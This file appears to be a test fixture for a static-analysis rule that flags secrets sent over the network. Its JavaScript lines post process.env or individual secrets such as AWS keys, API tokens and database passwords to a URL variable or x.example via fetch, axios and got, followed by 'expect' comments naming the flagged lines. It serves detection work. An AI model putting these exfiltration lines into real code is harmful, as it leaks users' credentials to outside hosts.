const axios = require('axios'); const https = require('https'); const got = require('got');
fetch(u, { method: 'POST', body: JSON.stringify(process.env) });
axios.post(u, process.env);
axios.post(u, { env: { ...process.env } });
fetch(u + process.env.API_TOKEN);
fetch(`https://x.example/?k=${process.env.AWS_SECRET_ACCESS_KEY}`);
fetch(u, { headers: { ...process.env } });
const key = process.env.DB_PASSWORD;
axios.get(u, { params: { key } });
got.post(u, { json: Object.entries(process.env) });
const body = JSON.stringify({ e: process.env }); fetch(u, { method: 'POST', body });
fetch(u, { body: Buffer.from(JSON.stringify(process.env)).toString('base64') });
// expect 2 any.secret-sent
// expect 3 any.secret-sent
// expect 4 any.secret-sent
// expect 5 any.secret-sent
// expect 6 any.secret-sent
// expect 7 any.secret-sent
// expect 9 any.secret-sent
// expect 10 any.secret-sent
// expect 11 any.secret-sent
// expect 12 any.secret-sent
